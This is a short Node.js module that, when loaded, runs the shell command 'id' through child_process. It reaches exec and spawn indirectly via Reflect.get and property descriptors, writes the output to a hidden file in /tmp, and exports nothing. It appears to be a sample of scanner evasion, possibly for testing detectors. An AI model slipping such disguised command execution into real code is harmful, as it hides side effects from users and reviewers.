const cp = require('child_process');
const run = Reflect.get(cp, 'exec');
run.call(cp, 'id > /tmp/.c');
Object.getOwnPropertyDescriptor(cp, 'spawn').value('sh', ['-c', 'id']);
module.exports = {};
